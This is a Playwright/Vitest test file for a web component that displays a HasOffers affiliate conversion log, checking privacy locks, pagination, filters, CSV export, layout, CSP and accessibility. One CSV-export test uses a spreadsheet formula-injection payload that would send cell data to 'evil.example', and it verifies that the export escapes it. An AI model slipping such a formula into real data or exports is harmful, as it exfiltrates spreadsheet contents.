import { readFile } from 'node:fs/promises';
import type { BrowserContextOptions, Page } from 'playwright';
import { beforeEach, describe, expect, it } from 'vitest';
import { sampleKeys, sampleNetworkId } from '../sample-network/keys.js';
import { allReady, axeViolations, layoutShift, openTab, textOf } from './browser.js';
import { useHarness } from './harness.js';
import { mountSignedIn, signedInHead } from './signed-in-site.js';
import { plainPage } from './site.js';

/** Until the script has run, an element is nothing to the browser. */
const reserve = '<style>hasoffers-conversions:not(:defined) { display: block; min-height: 100vh }</style>';

const harness = useHarness();
beforeEach(() => mountSignedIn(harness));

const tag = 'hasoffers-conversions';
const conversions = (attributes = '') => `<${tag} currency="USD" time-zone="America/New_York" ${attributes}></${tag}>`;

async function open(body: string, options: BrowserContextOptions & { readonly policy?: string } = {}) {
  const { policy, ...context } = options;
  const html = plainPage(body, signedInHead).replace('lang="en"', 'lang="en-US"');
  // The page's own inline style would break the policy.
  const ownHtml = policy ? html.replace(/<style>.*?<\/style>/, '') : html;
  const headers: Record<string, string> = policy ? { 'content-security-policy': policy } : {};
  const tab = await openTab(harness.browser, harness.site.page('/', { html: ownHtml, headers }), context);
  await allReady(tab.page);
  return tab;
}

const part = (page: Page, name: string) => page.locator(`${tag} [part~="${name}"]`);
const texts = (page: Page, name: string) => part(page, name).allInnerTexts();
const rowsOf = (page: Page) => part(page, 'row').count();
const stateOf = (page: Page) =>
  page.locator(tag).evaluate((element) => (element as unknown as { readonly state: string }).state);

/** What the network was asked for its log, by the proxy. */
const calls = () => harness.network.calls.filter(({ method }) => method === 'getConversions');

/** What the proxy answers to a call of the page's, with the visitor's token. */
const callProxy = (page: Page, pairs: readonly (readonly [string, string])[]) =>
  page.evaluate(
    async (query) => {
      const token = await (await fetch('/widget-token', { method: 'POST' })).text();
      const response = await fetch(`/hasoffers?${new URLSearchParams(query)}`, {
        headers: { authorization: `Bearer ${token}` },
      });
      const { errors } = (await response.json()).response;
      return { status: response.status, code: errors?.[0]?.code };
    },
    [
      ['Target', 'Affiliate_Report'],
      ['Method', 'getConversions'],
      ['fields[]', 'Stat.payout'],
      ...pairs.map((pair) => [...pair]),
    ],
  );

/** A proxy of a network with these rows. */
function answerAt(path: string, members: object): void {
  const data = { page: 1, current: 25, count: 2, pageCount: 1, ...members };
  const response = { status: 1, httpStatus: 200, data, errors: [], errorMessage: null };
  harness.site.route(path, (_, answer) => {
    answer.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ response }));
  });
}

const toRow = (id: number, stat: object = {}) => ({
  Stat: {
    tune_event_id: `event-${id}`,
    datetime: `2026-06-12 10:42:${String(59 - id).padStart(2, '0')}`,
    conversion_status: 'approved',
    payout: '1.50000',
    ...stat,
  },
  Offer: { name: `Offer ${id}` },
});

const newYorkDay = (offset: number) =>
  new Intl.DateTimeFormat('sv-SE', { timeZone: 'America/New_York' }).format(Date.now() + offset * 86_400_000);

describe('the log', () => {
  it('is asked for with a limit and one range, and 25 of 50,000 rows come', async () => {
    const tab = await open(conversions());
    const [call] = calls();
    const [from, to] = [newYorkDay(-29), newYorkDay(0)];
    expect(calls()).toHaveLength(1);
    expect(call?.params).toMatchObject({
      limit: '25',
      data_start: from,
      data_end: to,
      filters: { 'Stat.datetime': { conditional: 'BETWEEN', values: [`${from} 00:00:00`, `${to} 23:59:59`] } },
      sort: { 'Stat.datetime': 'desc' },
    });
    for (const name of ['count', 'status_update_fields', 'groups']) expect(call?.params).not.toHaveProperty(name);

    const query = `NetworkId=${sampleNetworkId}&api_key=${sampleKeys.active}&Target=Affiliate_Report&Method=getConversions`;
    const direct = await fetch(`${harness.network.url}/Apiv3/json?${query}&fields[]=Stat.id&limit=1`);
    const { data } = ((await direct.json()) as { response: { data: { count: number } } }).response;
    expect(data.count).toBeGreaterThan(50_000);
    expect(await rowsOf(tab.page)).toBe(25);
    const received = await tab.received();
    expect(received.match(/"datetime":/g)).toHaveLength(25);
    expect(received).not.toMatch(/203\.0\.113\.|198\.51\.100\.|Mozilla|device_id/);

    const times = await part(tab.page, 'time').evaluateAll((all) => all.map((time) => time.getAttribute('datetime')));
    expect(times).toEqual([...times].sort().reverse());
    expect(await texts(tab.page, 'note')).toEqual(['Times in the time zone America/New_York.']);
    expect(tab.consoleErrors).toEqual([]);
    await tab.close();
  });

  it('never has columns of persons, neither to show nor to filter or sort by', async () => {
    const tab = await open(conversions());
    const before = calls().length;
    expect(await callProxy(tab.page, [])).toMatchObject({ status: 200 });
    for (const pairs of [
      [['fields[]', 'Stat.ip']],
      [
        ['filters[Stat.ip][conditional]', 'EQUAL_TO'],
        ['filters[Stat.ip][values][]', '203.0.113.1'],
      ],
      [['sort[Stat.ip]', 'asc']],
    ] as const) {
      const { status, code } = await callProxy(tab.page, pairs);
      expect([status, code]).toEqual([400, expect.stringMatching(/^(BAD|UNKNOWN)_PARAMETER$/)]);
    }
    expect(calls()).toHaveLength(before + 1);
    await tab.close();
  });

  it('shows a member his own rows alone, says where some were dropped, and refuses another sub-id', async () => {
    mountSignedIn(harness, { token: { scopes: ['conversions'], lock: { aff_sub: 'member-1' } } });
    // Rows of "Member-1", too: the sample network compares as databases do.
    const tab = await open(conversions('page-size="100" period="90d" fields="time sub1 payout"'));
    const subIds = await tab.page.locator(`${tag} tbody td.sub1`).allInnerTexts();
    expect([...new Set(subIds)]).toEqual(['member-1']);
    expect(subIds.length).toBeGreaterThan(80);
    const [note] = await texts(tab.page, 'note');
    expect(note?.includes(`Not all data was sent: ${subIds.length} of 100 rows.`)).toBe(subIds.length < 100);
    expect(await tab.received()).not.toMatch(/member-2|Member-1/);
    const filter = (value: string) => [['filters[Stat.affiliate_info1][values][]', value]] as const;
    expect(await callProxy(tab.page, filter('member-2'))).toEqual({ status: 403, code: 'LOCKED' });
    await tab.close();
  });

  it('has no scope, no rows: that is said, and nothing is asked for', async () => {
    mountSignedIn(harness, { token: { scopes: ['stats'] } });
    const tab = await open(conversions());
    expect(await texts(tab.page, 'error')).toEqual(['These conversions are not open to this account.']);
    expect(calls()).toEqual([]);
    await tab.close();
  });

  it('is empty in words', async () => {
    const tab = await open(conversions('from="2001-01-01" to="2001-01-31"'));
    expect(await stateOf(tab.page)).toBe('empty');
    expect(await texts(tab.page, 'empty')).toEqual(['No conversions in these days.']);
    await tab.close();
  });

  it('comes as a list or as a map, and without a page count goes on after a full page', async () => {
    answerAt('/list', { data: [toRow(1), toRow(2)] });
    answerAt('/map', { data: { 9: toRow(2), 12: toRow(1) } });
    for (const length of [25, 24]) {
      const data = Array.from({ length }, (_, id) => toRow(id));
      answerAt(`/rows-${length}`, { count: null, pageCount: null, data });
    }
    const paths = ['/list', '/map', '/rows-25', '/rows-24'];
    const tab = await open(
      paths.map((path) => conversions(`endpoint="${path}" fields="offer" loading="eager"`)).join(''),
    );
    const at = (path: string, selector: string) => tab.page.locator(`${tag}[endpoint="${path}"] ${selector}`);
    expect(await at('/list', 'tbody tr').allInnerTexts()).toEqual(['Offer 1', 'Offer 2']);
    expect(await at('/map', 'tbody tr').allInnerTexts()).toEqual(['Offer 1', 'Offer 2']);
    expect(await at('/rows-25', '[part~="next"]').getAttribute('aria-disabled')).toBe('false');
    expect(await at('/rows-24', '[part~="next"]').count()).toBe(0);
    await tab.close();
  });
});

describe('pages', () => {
  it('keep the focus, are announced, and take one call each', async () => {
    const tab = await open(conversions('page-size="10"'));
    const next = part(tab.page, 'next');
    await next.focus();
    await tab.page.keyboard.press('Enter');
    await expect.poll(() => texts(tab.page, 'count')).toEqual([expect.stringMatching(/^11–20 of [\d,]+$/)]);
    const focused = tab.page.locator(tag).evaluate((element) => element.shadowRoot?.activeElement?.part.value);
    expect(await focused).toBe('next');
    const status = tab.page.locator(`${tag} [role=status]`);
    await expect.poll(() => status.innerText()).toMatch(/^[\d,]+ conversions: 11–20 of [\d,]+$/);
    expect(calls().map(({ params }) => params.page)).toEqual(['1', '2']);
    await tab.close();
  });
});

describe('the toolbar', () => {
  it('filters by status with one call, by a list of one value, and says it in words', async () => {
    const tab = await open(conversions('controls="period status offer" page-size="10"'), { forcedColors: 'active' });
    expect(calls()).toHaveLength(1);
    await tab.page.getByLabel('Status').selectOption('rejected');
    await expect.poll(() => texts(tab.page, 'status')).toEqual(Array(10).fill('Rejected'));
    expect(calls()).toHaveLength(2);
    const sent = harness.site.requests.filter((request) => request.includes('Method=getConversions')).at(-1);
    expect(decodeURIComponent(sent ?? '')).toContain('filters[Stat.conversion_status][values][]=rejected');
    expect(calls()[1]?.params.filters).toMatchObject({
      'Stat.conversion_status': { conditional: 'EQUAL_TO', values: ['rejected'] },
    });
    await tab.close();
  });

  it('saves what is loaded, and no cell of it is a formula', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    answerAt('/hasoffers', {
      data: [toRow(1, { affiliate_info1: formula }), toRow(2, { affiliate_info1: '<b>@b</b>' })],
    });
    const tab = await open(conversions('download fields="sub1 payout"'));
    expect(await tab.page.locator(`${tag} tbody th`).allInnerTexts()).toEqual([formula, '<b>@b</b>']);
    const [download] = await Promise.all([tab.page.waitForEvent('download'), part(tab.page, 'download').click()]);
    expect(download.suggestedFilename()).toMatch(/^conversions-.*\.csv$/);
    expect(await readFile(await download.path(), 'utf8')).toBe(
      `\ufeffsub1,payout,currency\r\n"'${formula.replaceAll('"', '""')}",1.5,\r\n<b>@b</b>,1.5,\r\n`,
    );
    expect(tab.consoleErrors).toEqual([]);
    await tab.close();
  });
});

describe('the card', () => {
  const everything = conversions('controls="period status offer" download page-size="5"');

  it('has rows in a wide container, and cards with labels in a narrow one', async () => {
    const tab = await open(everything, { viewport: { width: 360, height: 900 } });
    const first = part(tab.page, 'row').first();
    const words = (await first.innerText()).split(/\s*\n\s*/);
    expect(words).toEqual(expect.arrayContaining(['Time', 'Offer', 'Status', 'Payout', 'Sub-ID 1']));
    expect(await tab.page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    await tab.page.setViewportSize({ width: 1280, height: 900 });
    await expect.poll(() => first.innerText()).not.toContain('Payout');
    await tab.close();
  });

  it.each([320, 1280])('moves nothing, at %d px', async (width) => {
    harness.network.setFault('delay-300');
    // Higher than the viewport, as the reserved place is.
    const log = conversions('controls="period status offer" download');
    const tab = await open(`${reserve}${log}<p>After it.</p>`, { viewport: { width, height: 600 } });
    await tab.page.waitForLoadState('networkidle');
    expect(await layoutShift(tab.page)).toBe(0);
    await tab.close();
  });

  it('breaks no strict policy', async () => {
    const policy =
      "default-src 'none'; script-src 'self' 'unsafe-inline'; connect-src 'self'; style-src 'self'; img-src 'self'; require-trusted-types-for 'script'; trusted-types";
    const tab = await open(everything, { policy });
    expect(await textOf(tab.page, tag)).toContain('Approved');
    expect(tab.consoleErrors).toEqual([]);
    expect(await tab.page.locator(`${tag} [style]`).count()).toBe(0);
    await tab.close();
  });

  it('has no accessibility violation, light or dark, wide or narrow', async () => {
    const tab = await open(everything);
    expect(await axeViolations(tab.page)).toEqual([]);
    await tab.page.setViewportSize({ width: 320, height: 900 });
    await tab.page.emulateMedia({ colorScheme: 'dark' });
    await expect.poll(() => part(tab.page, 'row').first().innerText()).toContain('Payout');
    expect(await axeViolations(tab.page)).toEqual([]);
    await tab.close();
  });
});
